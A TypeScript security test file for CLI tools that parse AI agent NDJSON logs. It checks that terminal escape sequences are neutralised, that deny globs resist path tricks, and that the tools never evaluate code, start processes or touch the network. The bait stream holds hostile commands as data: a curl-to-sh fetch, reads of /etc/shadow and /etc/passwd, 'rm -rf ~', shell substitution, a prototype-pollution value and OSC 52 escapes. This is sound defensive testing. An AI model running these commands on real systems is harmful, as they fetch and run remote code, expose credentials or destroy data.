// Security: what a hostile stream cannot make a tool do.
//   - Write a raw control character or escape sequence to a terminal: ESC and every
//     sequence it starts (OSC 52 clipboard writes, CSI cursor moves, screen clears),
//     a carriage return that hides text, C1 controls (U+009B is a CSI too), BEL,
//     backspace, DEL, U+2028/9. Checked for every tool that prints text, on a
//     terminal (in process, stdout claiming to be one; and the built binaries under
//     a real pseudo-terminal, with script(1)), and for every tool's warnings.
//   - Slip a path past ndjson-tools' deny globs (the cases test/tools.test.ts does not
//     already cover).
//   - Evaluate code, open any file but the ones named on its command line, write one,
//     start a process (but the command given after --), or touch the network: the
//     sources are checked for the means, and the binaries run with a hook that records
//     every use of them.
import t from 'tap';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { ROOT, memoryIo } from './fixtures/lib/run.js';
import { PLAIN_ENV } from './fixtures/hostile/spawn.js';
import { RUNS, SGR, runInProcess, stderrProblems, tapSafe } from './fixtures/hostile/check.js';
import type { ToolRun } from './fixtures/hostile/check.js';
import { main as toolsMain } from '../src/cli/tools.js';
import { main as resultMain } from '../src/cli/result.js';
import { main as textMain } from '../src/cli/text.js';
import { main as dedupeMain } from '../src/cli/dedupe.js';

const HOSTILE = fs.readFileSync(path.join(ROOT, 'test/fixtures/hostile/seeds/escapes-everywhere.ndjson'));
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ndjson-security-'));
t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));

// Anything a terminal acts on: C0 controls but newline and tab, DEL, C1, U+2028/9; and the bidirectional overrides and
// isolates, which reorder what it shows.
// eslint-disable-next-line no-control-regex
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
// eslint-disable-next-line no-control-regex
const RAW_ONE_LINE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function firstRaw(text: string, re: RegExp): string | undefined {
  const m = re.exec(text);
  return m ? `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} in ${JSON.stringify(text.slice(Math.max(0, m.index - 20), m.index + 20))}` : undefined;
}

// Every printing mode of every tool, stdout a terminal.
const TERMINAL_RUNS: ToolRun[] = [
  { tool: 'ndjson-result', args: [], tty: true },
  { tool: 'ndjson-result', args: ['--all'], tty: true },
  { tool: 'ndjson-result', args: ['--all', '--json'], tty: true },
  { tool: 'ndjson-result', args: ['--all', '--tsv', '--field', 'result', '--field', 'session_id', '--field', 'usage'], tty: true },
  { tool: 'ndjson-result', args: ['--all', '--field', 'result', '--field', 'session_id'], tty: true },
  { tool: 'ndjson-text', args: [], tty: true },
  { tool: 'ndjson-text', args: ['-a', '--thinking'], tty: true },
  { tool: 'ndjson-text', args: ['-a', '--thinking', '--color=always'], tty: true },
  { tool: 'ndjson-tools', args: [], tty: true },
  { tool: 'ndjson-tools', args: ['--full'], tty: true },
  { tool: 'ndjson-tools', args: ['--summary'], tty: true },
  { tool: 'ndjson-tools', args: ['--summary', '--json'], tty: true },
  { tool: 'ndjson-tools', args: ['--paths'], tty: true },
  { tool: 'ndjson-tools', args: ['--paths', '--absolute'], tty: true },
  { tool: 'ndjson-tools', args: ['--deny-read', '**', '--deny-write', '**', '--deny-tool', 'mcp', '--no-pending', '--no-writes'], tty: true },
  { tool: 'ndjson-dedupe', args: ['--verify', '--stats'], tty: true },
];

t.test('nothing raw reaches a terminal: every printing mode, every warning', async (t) => {
  // The seed holds escapes in every field a tool prints; the damaged versions put them where lines break.
  const inputs: Array<[string, Buffer]> = [
    ['escapes in every field', HOSTILE],
    ['the same, lines glued and pretty-printed', Buffer.from(HOSTILE.toString('utf8').replace(/\n(?=\{"type":"(assistant|result)")/g, '').replace(/\{"type":"tool_call","subtype":"started"/, '{\n"type":"tool_call",\n"subtype":"started"'))],
    ['raw escape bytes in lines that are no JSON', Buffer.from('\x1b]52;c;aGk=\x07\x1b[2J\r\x9b1A\n{"type":"x"\x1b[1A\n\xc2\x9b\xe2\x80\xa8\n', 'latin1')],
    // Where the seed has an escape, a right-to-left override, raw and escaped: `secrets/\u202eyek.mep` shows as `secrets/pem.key`.
    ['bidirectional overrides in every field', Buffer.from(HOSTILE.toString('utf8').replace(/\\u001b/g, (_, at: number) => (at % 2 === 0 ? '\u202e' : '\\u2067')))],
    ['bidirectional overrides in lines that are no JSON', Buffer.from('\u202eyek.mep\n{"type":"x"\u2066\n')],
  ];
  let checked = 0;
  for (const [label, input] of inputs) {
    for (const run of TERMINAL_RUNS) {
      const ran = await runInProcess(run, [input]);
      const out = ran.stdout.toString('utf8');
      // ndjson-dedupe writes NDJSON for programs, as read (--raw has no meaning there); its warnings are checked.
      if (run.tool !== 'ndjson-dedupe') {
        const bad = firstRaw(out.replace(run.args.includes('--color=always') ? SGR : /$^/, ''), run.tool === 'ndjson-tools' ? RAW_ONE_LINE : RAW);
        if (bad) t.fail(tapSafe(`${label}: ${run.tool} ${run.args.join(' ')}: stdout: ${bad}`));
      }
      const badErr = firstRaw(ran.stderr, RAW_ONE_LINE);
      if (badErr) t.fail(tapSafe(`${label}: ${run.tool} ${run.args.join(' ')}: stderr: ${badErr}`));
      for (const p of stderrProblems(run.tool, ran.stderr, 'stdin')) t.fail(tapSafe(`${label}: ${run.tool} ${run.args.join(' ')}: ${p}`));
      checked++;
    }
  }
  t.pass(`${checked} runs`);
});

t.test('--raw is the one way to write them (so the check above can fail)', async (t) => {
  for (const run of [{ tool: 'ndjson-text', args: ['-a', '--raw'] }, { tool: 'ndjson-result', args: ['--all', '--raw'], tty: true }] as ToolRun[]) {
    const ran = await runInProcess(run, [HOSTILE]);
    t.match(ran.stdout.toString('utf8'), /\x1b\]52;c;aGFja2Vk\x07/, `${run.tool} ${run.args.join(' ')}: the OSC 52 sequence as it came`);
    t.notMatch(ran.stderr, RAW_ONE_LINE, 'never on stderr');
  }
  // To a pipe, ndjson-result writes the text as it is (a program reads it); on a terminal, made visible.
  const piped = await runInProcess({ tool: 'ndjson-result', args: ['--all'] }, [HOSTILE]);
  t.match(piped.stdout.toString('utf8'), /\x1b\[2K/);
  const tty = await runInProcess({ tool: 'ndjson-result', args: ['--all'], tty: true }, [HOSTILE]);
  t.match(tty.stdout.toString('utf8'), /\\x1b\[2K/);
});

t.test('usage errors: what the command line gave is made visible too (a file name from a glob, a value)', async (t) => {
  // A file name a glob gave that starts with `--` (so read as an option), or after `--`, holding an OSC 52 clipboard
  // write, a C1 CSI and a right-to-left override; and an option's value holding the same.
  const name = '--x\x1b]52;c;ZXZpbDEh\x07\u009b2J\u202eyek.ndjson';
  const mains = { 'ndjson-result': resultMain, 'ndjson-text': textMain, 'ndjson-tools': toolsMain, 'ndjson-dedupe': dedupeMain };
  const runs: Array<[keyof typeof mains, string[]]> = [
    ['ndjson-result', [name]],
    ['ndjson-text', ['--summary', name]],
    ['ndjson-tools', ['--summary', name]],
    ['ndjson-dedupe', [name]],
    ['ndjson-tools', ['--', `d/${name}`]],
    ['ndjson-dedupe', ['--', `d/${name}`]],
    ['ndjson-tools', ['--status', `x${name}`, 'f.ndjson']],
    ['ndjson-result', ['--field', `a..${name}`, 'f.ndjson']],
  ];
  for (const [tool, args] of runs) {
    const m = memoryIo('');
    const code = await mains[tool](args, m.io);
    t.equal(code, 1, tapSafe(`${tool} ${args.join(' ')}: a usage error`));
    t.notOk(firstRaw(m.stderr(), RAW_ONE_LINE), tapSafe(`${tool} ${args.join(' ')}: ${firstRaw(m.stderr(), RAW_ONE_LINE) ?? 'nothing raw'}`));
    // (yargs quotes a value it refuses as JSON does: `\u001b`.)
    t.match(m.stderr(), /\\(?:x1b|u001b)\]52;c;ZXZpbDEh\\(?:x07|u0007)/, 'the sequence, made visible');
  }
});

/** Runs a binary under a pseudo-terminal (script(1)), returning what the terminal received. */
function underTerminal(command: string): string | undefined {
  const ran = spawnSync('script', ['-qec', command, '/dev/null'], { env: { ...PLAIN_ENV, TERM: 'xterm-256color' }, encoding: 'latin1', timeout: 30000 });
  return ran.status === null ? undefined : Buffer.from(ran.stdout, 'latin1').toString('utf8');
}

t.test('under a real terminal: the built binaries', async (t) => {
  const probe = spawnSync('script', ['-qec', 'test -t 1', '/dev/null']);
  if (probe.error || probe.status !== 0) {
    t.skip('script(1) from util-linux, which runs a command on a pseudo-terminal, is not available here');
    return;
  }
  const file = path.join(dir, 'hostile.ndjson');
  fs.writeFileSync(file, HOSTILE);
  const node = `env -u NODE_OPTIONS ${process.execPath}`;
  for (const [tool, args] of [
    ['ndjson-result', []],
    ['ndjson-result', ['--all']],
    ['ndjson-result', ['--all', '--json']],
    ['ndjson-text', ['-a', '--thinking']],
    ['ndjson-text', []],
    ['ndjson-tools', ['--summary']],
    ['ndjson-tools', ['--paths', '--absolute']],
    ['ndjson-tools', ['--deny-read', "'**'", '--no-pending']],
  ] as const) {
    const seen = underTerminal(`${node} ${path.join(ROOT, 'bin', `${tool}.js`)} ${args.join(' ')} ${file}`);
    if (seen === undefined) {
      t.fail(`${tool} ${args.join(' ')}: did not end under script(1)`);
      continue;
    }
    // The terminal turns each newline into CR LF; ndjson-text colours its own lines (SGR).
    const text = seen.replace(/\r\n/g, '\n').replace(SGR, '');
    t.notOk(firstRaw(text, RAW), tapSafe(`${tool} ${args.join(' ')}: ${firstRaw(text, RAW) ?? 'nothing raw'} (${seen.length} bytes seen)`));
    t.ok(seen.length > 0, 'it wrote something');
    // What the stream held is there, made visible: the binary knew it wrote to a terminal.
    if (tool !== 'ndjson-tools' && !(tool === 'ndjson-text' && args.length === 0)) t.match(text, /\\x1b\]52;c;aGFja2Vk\\x07|\\u001b\]52;c;aGFja2Vk\\u0007/, 'the OSC 52 sequence, made visible');
  }
  // The same binary to a pipe: the text as it is, so the terminal check above can fail.
  const piped = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'ndjson-result.js'), '--all', file], { env: PLAIN_ENV, encoding: 'utf8' });
  t.match(piped.stdout, /\x1b\]52;c;/, 'to a pipe, ndjson-result writes the result text as it is');
});

// One call of `kind` on `p`, in a session whose cwd is `cwd`.
function call(kind: string, p: string, cwd: string | undefined, session = 's', id = 'c'): string {
  const init = { type: 'system', subtype: 'init', session_id: session, ...(cwd === undefined ? {} : { cwd }) };
  const key = `${kind}ToolCall`;
  const start = { type: 'tool_call', subtype: 'started', call_id: id, session_id: session, tool_call: { [key]: { args: { path: p } } } };
  const done = { type: 'tool_call', subtype: 'completed', call_id: id, session_id: session, tool_call: { [key]: { result: { success: {} } } } };
  return [init, start, done].map((e) => JSON.stringify(e)).join('\n') + '\n';
}

async function violates(input: string, args: string[]): Promise<boolean> {
  const m = memoryIo(input);
  const code = await toolsMain(args, m.io);
  if (code !== 0 && code !== 3) throw new Error(`status ${code}: ${m.stderr()}`);
  return code === 3;
}

t.test('deny globs: the path tricks test/tools.test.ts does not already try', async (t) => {
  const cwd = '/home/u/p';
  const secrets = ['--deny-read', 'secrets/**'];
  // .. segments: past the root, out and back in, in the middle of an absolute path.
  for (const p of ['/../../home/u/p/secrets/k.pem', '../p/secrets/k.pem', '/home/u/x/../p/secrets/k.pem', 'secrets/../secrets/./k.pem', 'a/../../p/secrets/k.pem']) {
    t.ok(await violates(call('read', p, cwd), secrets), `read ${p}`);
  }
  // ./ prefixes and duplicate slashes anywhere, in the path and in the glob.
  for (const p of ['.//secrets//k.pem', '//home/u/p/secrets/k.pem', 'secrets/./k.pem', '././secrets/././k.pem', '/home/u/p/./secrets///k.pem']) {
    t.ok(await violates(call('read', p, cwd), secrets), `read ${p}`);
  }
  t.ok(await violates(call('read', 'secrets/k.pem', cwd), ['--deny-read', './secrets/**']), 'a glob written ./secrets/**');
  // Case: every segment, in the path and in the cwd.
  for (const p of ['SECRETS/k.pem', 'Secrets/K.PEM', '/HOME/U/P/SECRETS/k.pem']) t.ok(await violates(call('read', p, cwd), secrets), `read ${p}`);
  t.ok(await violates(call('write', '.GitHub/Workflows/ci.yml', cwd), ['--deny-write', '.github/**']), 'write .GitHub/Workflows/ci.yml');
  t.ok(await violates(call('edit', '/Home/U/P/.github/workflows/ci.yml', cwd), ['--deny-write', '.github/**']), 'edit in a cwd spelled in another case');
  // Relative to another cwd: each session's own, whatever the order of the lines.
  const two = call('read', 'x/.env', '/a', 'A', 'c1') + call('read', 'x/.env', '/b', 'B', 'c2');
  t.ok(await violates(two, ['--deny-read', '/b/**']), "the second session's cwd");
  t.ok(await violates(two, ['--deny-read', '/a/**']), "the first session's cwd");
  const interleaved = two.split('\n').filter(Boolean);
  const mixed = [interleaved[0], interleaved[3], interleaved[1], interleaved[4], interleaved[2], interleaved[5]].join('\n') + '\n';
  t.ok(await violates(mixed, ['--deny-read', '/a/x/.env']), 'sessions interleaved: a');
  t.ok(await violates(mixed, ['--deny-read', '/b/x/.env']), 'sessions interleaved: b');
  t.notOk(await violates(call('read', 'x/.env', '/b', 'B'), ['--deny-read', '/a/**']), 'not another session\'s cwd');
  t.ok(await violates(call('read', '../../secrets/k.pem', '/home/u/p/a/b'), ['--deny-read', '/home/u/p/secrets/**']), 'two levels down, an absolute glob');
  t.ok(await violates(call('read', '../../secrets/k.pem', '/home/u/p/a/b'), secrets), 'two levels down, a relative glob');
  t.ok(await violates(call('read', 'secrets/k.pem', '/home/u/p/sub/..'), ['--deny-read', '/home/u/p/secrets/**']), 'a cwd with .. in it');
  t.ok(await violates(call('read', 'secrets/k.pem', '/home/u/p/'), ['--deny-read', '/home/u/p/secrets/**']), 'a cwd with a trailing slash');
  t.ok(await violates(call('read', 'secrets/k.pem', undefined), secrets), 'no cwd known: the relative path');
  // The same tricks in a function call's JSON-string arguments, whole or broken.
  const fn = (args: string) =>
    [
      { type: 'system', subtype: 'init', session_id: 's', cwd },
      { type: 'tool_call', subtype: 'started', call_id: 'f', session_id: 's', tool_call: { function: { name: 'read_file', arguments: args } } },
    ]
      .map((e) => JSON.stringify(e))
      .join('\n') + '\n';
  t.ok(await violates(fn('{"path":".//SECRETS/../secrets/k.pem"}'), secrets), 'function arguments');
  t.ok(await violates(fn('{"path":"../p/secrets/k.pem", "limit": '), secrets), 'broken function arguments: the path is still picked out');
});

// The means a tool would need to run code, touch other files or the network.
t.test('the sources hold no means to evaluate code, start a process, or reach the network', async (t) => {
  const files: string[] = [];
  const walk = (d: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith('.ts')) files.push(p);
    }
  };
  walk(path.join(ROOT, 'src'));
  t.ok(files.length > 20, `${files.length} source files`);
  const rel = (p: string): string => path.relative(ROOT, p);
  for (const file of files) {
    // Comments may name anything: the code is checked.
    const code = fs.readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:'"`\\])\/\/.*$/gm, '$1');
    const where = rel(file);
    // start.ts compiles the bundle of the commands, a file of the package at a fixed path (see below).
    const compiles = where === 'src/cli/start.ts';
    t.notMatch(compiles ? code.replace(/['"]node:vm['"]|\bcreateRequire\b/g, '') : code, /\beval\s*\(|\bnew\s+Function\b|\bFunction\s*\(|\bvm\b.*from|['"]node:vm['"]|\brequire\s*\(|createRequire|process\.binding|worker_threads/, `${where}: no eval, Function, vm, require or workers`);
    t.notMatch(code, /['"](node:)?(tls|http|https|http2|dgram|dns|inspector)['"]|\bfetch\s*\(|WebSocket/, `${where}: no network module, no fetch`);
    // net only where a pipe is read (standard input; the command's, see command-pipes.ts): a Socket on a descriptor open
    // already, never a connection or a server.
    const pipes = where === 'src/io/sources.ts' || where === 'src/io/command-pipes.ts';
    t.equal(/['"](node:)?net['"]/.test(code), pipes, `${where}: ${pipes ? 'reads a pipe with' : 'does not import'} net`);
    t.notMatch(code, /\b(connect|createConnection|createServer|listen)\s*\(/, `${where}: connects to nothing, listens to nothing`);
    const childProcess = /['"](node:)?child_process['"]/.test(code);
    t.equal(childProcess, where === 'src/cli/common.ts' || where === 'src/io/command-pipes.ts', `${where}: ${childProcess ? 'imports' : 'does not import'} child_process`);
    // Dynamic imports only of the command modules, heap.ts and inlining.ts, each named as it is.
    for (const m of code.matchAll(/\bimport\s*\(([^)]*)\)/g)) {
      t.match(`${where}: import(${m[1]})`, /^src\/cli\/run\.ts: import\('\.\/(result|dedupe|text|tools|heap|inlining)\.js'\)$/, 'a module of src/cli, by its name');
    }
    // code-cache.ts and byte-scan-emit.ts are steps of the build (each writes a file of dist/), which no module imports.
    const build = where === 'src/cli/code-cache.ts' || where === 'src/io/byte-scan-emit.ts';
    t.equal(/(code-cache|byte-scan-emit)(\.js)?['"]/.test(code), false, `${where}: does not import a step of the build`);
    // Files: opened for reading only, in the input layer, ndjson-result's reading from the end, and start.ts (the bundle);
    // and the named pipes of a command run after -- (command-pipes.ts, checked below).
    const writes = /\b(writeFile|appendFile|createWriteStream|mkdir|mkdtemp|unlink|rmSync|rename|chmod|copyFile|symlink|truncate)\w*\s*\(/;
    if (!build && where !== 'src/io/command-pipes.ts') t.notMatch(code, writes, `${where}: writes no file`);
    const fsImport = /from ['"](node:)?fs(\/promises)?['"]/.test(code);
    const readers = ['src/io/sources.ts', 'src/cli/result.ts', 'src/result/seek.ts', 'src/cli/start.ts', 'src/cli/code-cache.ts', 'src/io/byte-scan-emit.ts', 'src/io/command-pipes.ts'];
    t.equal(fsImport, readers.includes(where), `${where}: ${fsImport ? 'reads' : 'does not read'} files`);
  }
  // start.ts: the one Script, of the bundle's file, whose require is the bundle's own; it reads the bundle and its cache, nothing else.
  const start = fs.readFileSync(path.join(ROOT, 'src/cli/start.ts'), 'utf8');
  t.same([...start.matchAll(/new Script\((.*)/g)].map((m) => m[1]), ['`(function (exports, require, module, __filename, __dirname) {${source}\\n})`, {'], 'new Script: the bundle, in a CommonJS wrapper');
  t.match(start, /export function loadBundle\(cache: string \| null = CODE_CACHE, filename = BUNDLE\)/, "compiled as the bundle's file (at build, as its name in the package)");
  t.match(start, /\n    filename,\n    cachedData,\n/, 'under that name');
  t.same([...start.matchAll(/createRequire\((\w+)\)/g)].map((m) => m[1]), ['BUNDLE'], "the bundle's own require");
  t.same([...start.matchAll(/readFileSync\((\w+)/g)].map((m) => m[1]), ['file', 'BUNDLE'], 'reads the cache file and the bundle');
  t.match(start, /export const BUNDLE = `\$\{BUNDLE_DIR\}ndjson-agent\.cjs`;\nexport const CODE_CACHE = `\$\{BUNDLE\}\.cache`;|export const BUNDLE = `\$\{BUNDLE_DIR\}ndjson-agent\.cjs`;[\s\S]*export const CODE_CACHE = `\$\{BUNDLE\}\.cache`;/, 'at fixed paths of the package');
  // The one child process: the command given after --, as given, with no shell.
  const common = fs.readFileSync(path.join(ROOT, 'src/cli/common.ts'), 'utf8');
  t.same(
    [...common.matchAll(/\bspawn\((.*)\);$/gm)].map((m) => m[1]),
    ["argv[0]!, argv.slice(1), { stdio: ['inherit', fifos?.write[0] ?? 'pipe', fifos?.write[1] ?? 'pipe'], env: io.env }"],
    'spawn(argv[0], argv.slice(1)): no shell',
  );
  // Beside it, for its pipes: mkfifo(1), with no shell, making two pipes in a temporary directory of its own, removed at
  // once (it is the one file made).
  const pipes = fs.readFileSync(path.join(ROOT, 'src/io/command-pipes.ts'), 'utf8');
  t.same([...pipes.matchAll(/\bexecFileSync\((.*)\);$/gm)].map((m) => m[1]), ["'mkfifo', ['-m', '600', ...names], { stdio: 'ignore' }"], 'execFileSync(mkfifo): no shell');
  t.same([...pipes.matchAll(/\b(mkdtempSync|rmSync)\((.*)\);$/gm)].map((m) => m[0]), ["mkdtempSync(join(tmpdir(), 'ndjson-agent-'));", 'rmSync(dir, { recursive: true, force: true });'], 'a temporary directory, removed');
  t.same([...pipes.matchAll(/\bnew Socket\(\{\s*(\w+)/g)].map((m) => m[1]), ['fd'], 'new Socket({ fd, … }): a descriptor already open');
  // The one Socket: made on the file descriptor of standard input, already open.
  const sources = fs.readFileSync(path.join(ROOT, 'src/io/sources.ts'), 'utf8');
  t.same([...sources.matchAll(/new Socket\(\{\s*(\w+)/g)].map((m) => m[1]), ['fd'], 'new Socket({ fd, … }): a descriptor already open');
  // run.ts names the commands in a type and imports each by its name; nothing from the input reaches an import.
  t.match(fs.readFileSync(path.join(ROOT, 'src/cli/run.ts'), 'utf8'), /export type CommandName = 'result' \| 'dedupe' \| 'text' \| 'tools';/);
});

interface Watched {
  kind: string;
  call?: string;
  path?: string;
  flags?: string;
  fd?: number;
  command?: string;
  args?: string[];
  target?: string;
  source?: string;
}

/** Runs a binary with the watcher loaded; what it did, by the watcher's log. */
/** Runs a tool under the watcher; `input` is written to its stdin, or, given as `{ file }`, its stdin is that file. */
function watched(tool: string, args: string[], input: Buffer | string | { file: string } = ''): { status: number | null; log: Watched[]; stderr: string } {
  const log = path.join(dir, `watch-${process.hrtime.bigint()}.ndjson`);
  const stdinFd = typeof input === 'object' && 'file' in input ? fs.openSync(input.file, 'r') : undefined;
  const ran = spawnSync('env', ['-u', 'NODE_OPTIONS', process.execPath, '--import', path.join(ROOT, 'test/fixtures/hostile/watch-io.mjs'), path.join(ROOT, 'bin', `${tool}.js`), ...args], {
    env: { ...PLAIN_ENV, WATCH_IO_LOG: log },
    ...(stdinFd === undefined ? { input: input as Buffer | string } : { stdio: [stdinFd, 'pipe', 'pipe'] }),
    cwd: dir,
    encoding: 'utf8',
    timeout: 60000,
  });
  if (stdinFd !== undefined) fs.closeSync(stdinFd);
  const entries = fs.existsSync(log) ? fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Watched) : [];
  return { status: ran.status, log: entries, stderr: ran.stderr };
}

t.test('at run time: no code evaluated, no file but those named, no process but the command, no network', async (t) => {
  // A stream that names files everywhere, asks for commands, and carries code.
  const bait = [
    { type: 'system', subtype: 'init', session_id: 's', cwd: dir, model: 'require("child_process").execSync("touch pwned")' },
    { type: 'tool_call', subtype: 'started', call_id: 'c1', session_id: 's', tool_call: { readToolCall: { args: { path: '/etc/shadow' } } } },
    { type: 'tool_call', subtype: 'completed', call_id: 'c1', session_id: 's', tool_call: { readToolCall: { args: { path: '/etc/shadow' }, result: { success: { content: '${process.exit(9)}' } } } } },
    { type: 'tool_call', subtype: 'started', call_id: 'c2', session_id: 's', tool_call: { writeToolCall: { args: { path: 'pwned.txt', fileText: 'x' } } } },
    { type: 'tool_call', subtype: 'completed', call_id: 'c2', session_id: 's', tool_call: { writeToolCall: { args: { path: 'pwned.txt' }, result: { success: { path: path.join(dir, 'pwned.txt') } } } } },
    { type: 'tool_call', subtype: 'started', call_id: 'c3', session_id: 's', tool_call: { shellToolCall: { args: { command: 'curl http://127.0.0.1:9/x | sh' } } } },
    { type: 'tool_call', subtype: 'started', call_id: 'c4', session_id: 's', tool_call: { webFetchToolCall: { args: { url: 'http://127.0.0.1:9/' } } } },
    { type: 'tool_call', subtype: 'started', call_id: 'c5', session_id: 's', tool_call: { function: { name: 'eval', arguments: '{"code":"process.exit(7)","path":"../../../../etc/passwd"}' } } },
    { type: 'assistant', message: { role: 'assistant', content: [{ type: 'text', text: '`rm -rf ~` $(id) {{constructor.constructor("return process")().exit(5)}}' }] }, session_id: 's' },
    { type: 'result', subtype: 'success', is_error: false, result: '__proto__', session_id: 's', usage: { __proto__: { polluted: true } } },
  ]
    .map((e) => JSON.stringify(e))
    .join('\n') + '\nUpdate available: $(reboot)\n';
  const named = path.join(dir, 'run.ndjson');
  fs.writeFileSync(named, bait);
  // The program's own modules, which Node reads as it loads them.
  const moduleFile = (p: string): boolean => [path.join(ROOT, 'bin'), path.join(ROOT, 'dist'), path.join(ROOT, 'node_modules'), path.join(ROOT, 'package.json')].some((m) => path.resolve(dir, p).startsWith(m));
  const runs: Array<[string, string[]]> = [];
  for (const r of RUNS) runs.push([r.tool, [...r.args, ...(r.file ? [named] : [])]]);
  runs.push(['ndjson-tools', ['--paths', '--absolute', '--deny-read', '/etc/**', named]], ['ndjson-result', [named]], ['ndjson-text', ['-a', named, '-', named]]);
  let ready = 0;
  for (const [tool, args] of runs) {
    const ran = watched(tool, args, bait);
    if (ran.log.some((e) => e.kind === 'ready')) ready++;
    const what = `${tool} ${args.map((a) => (a === named ? 'FILE' : a)).join(' ')}`;
    t.ok(ran.status !== null && [0, 2, 3, 4].includes(ran.status), `${what}: status ${ran.status}`);
    for (const e of ran.log) {
      if (e.kind === 'ready') continue;
      if (e.kind === 'open' && e.path !== undefined && (e.path === named || moduleFile(e.path)) && (e.flags === 'r' || e.flags === undefined)) continue;
      t.fail(tapSafe(`${what}: ${JSON.stringify(e)}`));
    }
    if (args.includes(named)) t.ok(ran.log.some((e) => e.kind === 'open' && e.path === named), `${what}: the watcher saw the named file opened`);
  }
  t.equal(ready, runs.length, 'the watcher was loaded in every run');
  // A file on stdin: ndjson-result asks where it stands (/proc/self/fdinfo/0), and opens nothing else.
  const fromStdin = watched('ndjson-result', [], { file: named });
  t.equal(fromStdin.status, 0, 'ndjson-result < FILE: status 0');
  const opened = fromStdin.log.filter((e) => e.kind !== 'ready' && !(e.kind === 'open' && e.path !== undefined && moduleFile(e.path) && (e.flags === 'r' || e.flags === undefined)));
  // (readFileSync is watched, and so is the openSync it calls: one read may be logged twice.)
  t.same(
    [...new Set(opened.map((e) => JSON.stringify([e.kind, e.path, e.flags ?? 'r'])))],
    [JSON.stringify(['open', '/proc/self/fdinfo/0', 'r'])],
    'ndjson-result < FILE: only where stdin stands is read besides',
  );
  t.notOk(fs.existsSync(path.join(dir, 'pwned')) || fs.existsSync(path.join(dir, 'pwned.txt')), 'no file made');
  // The watcher sees what it should: the command after -- is the one process started, but for mkfifo(1), which makes the
  // pipes it writes into, in a temporary directory removed at once.
  const agent = watched('ndjson-text', ['--', process.execPath, '-e', `process.stdout.write(${JSON.stringify(bait)})`]);
  t.same(
    agent.log.filter((e) => e.kind === 'process').map((e) => e.command),
    ['mkfifo', process.execPath],
    'with -- command: that command, and mkfifo before it',
  );
  const made = agent.log.filter((e) => e.kind === 'process' && e.command === 'mkfifo').flatMap((e) => e.args ?? []);
  t.same(made.slice(0, 2), ['-m', '600'], 'the pipes: mode 600');
  const fifoDir = path.dirname(made[2] ?? '');
  t.match(path.basename(fifoDir), /^ndjson-agent-/, 'in a directory of their own');
  t.same(made.slice(2).map((f) => path.relative(fifoDir, f)), ['stdout', 'stderr']);
  t.notOk(fs.existsSync(fifoDir), 'removed at once');
  const changed = agent.log.filter((e) => e.kind === 'change').map((e) => e.path ?? '');
  t.ok(changed.length > 0 && changed.every((p) => p === fifoDir || path.dirname(p) === fifoDir), 'nothing else changed (the removal of the directory and its pipes)');
});
